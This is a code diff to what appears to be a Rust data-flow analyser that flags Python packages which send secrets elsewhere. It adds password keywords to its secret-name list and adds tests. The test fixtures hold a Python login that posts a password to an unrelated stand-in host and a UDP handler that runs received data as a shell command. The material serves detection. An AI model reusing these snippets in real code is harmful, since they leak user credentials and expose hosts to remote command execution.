@@ -48,7 +48,7 @@ impl<'a> Interpreter<'a, '_> {
 
     /// What a caller hands over is a secret when its name says so: `mnemonic`, `private_key`.
     pub(crate) fn secret_parameter(&mut self, value: Value<'a>, name: &str, range: TextRange) -> Value<'a> {
-        if !["key", "mnemonic", "seed", "phrase"].iter().any(|word| name.contains(word)) {
+        if !["key", "mnemonic", "seed", "phrase", "passw", "pwd"].iter().any(|word| name.contains(word)) {
             return value;
         }
         let named = format!("parameter.{}", name.to_ascii_lowercase());
@@ -228,5 +228,36 @@ mod tests {
         let signed = "import requests, jwt\ndef call(private_key):\n \
                       requests.post('https://relay.invalid', headers={'a': jwt.encode({}, private_key)})\n";
         assert!(flows(&analysed(Role::Package, signed)).is_empty());
+    }
+
+    #[test]
+    fn a_password_that_goes_to_two_domains_is_told_and_to_two_hosts_of_one_is_not() {
+        let login = |second: &str| {
+            format!(
+                "import requests\nclass C:\n api = 'https://api.shop.test/v1'\n def login(self, user, password):\n  \
+                 requests.post(self.api + '/login', json={{'p': password}})\n  \
+                 requests.post('https://{second}/l', json={{'p': password}})\n"
+            )
+        };
+        let hosts = |second: &str| {
+            let analysis = analysed(Role::Package, &login(second));
+            flows(&analysis).iter().map(|flow| flow.elsewhere.clone()).collect::<Vec<_>>()
+        };
+        assert_eq!(hosts("audit.other.invalid"), [["audit.other.invalid"], ["api.shop.test"]]);
+        assert!(hosts("audit.shop.test").iter().all(Vec::is_empty));
+    }
+
+    #[test]
+    fn what_a_registered_function_gives_back_is_no_source() {
+        let plain =
+            "import requests\ns = requests.Session()\ndef page(url):\n r = s.send(url)\n s.send(r.json()['next'])\n";
+        assert!(flows(&analysed(Role::Package, plain)).iter().all(|flow| flow.source != "callback.receive"));
+    }
+
+    #[test]
+    fn what_comes_to_a_port_reaches_the_handler_of_its_datagrams() {
+        let handler = "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n def handle(self):\n  \
+                       d, s = self.request\n  subprocess.getoutput(d.decode())\n";
+        flow(&analysed(Role::Package, handler), "web.receive", "process.spawn");
     }
 }
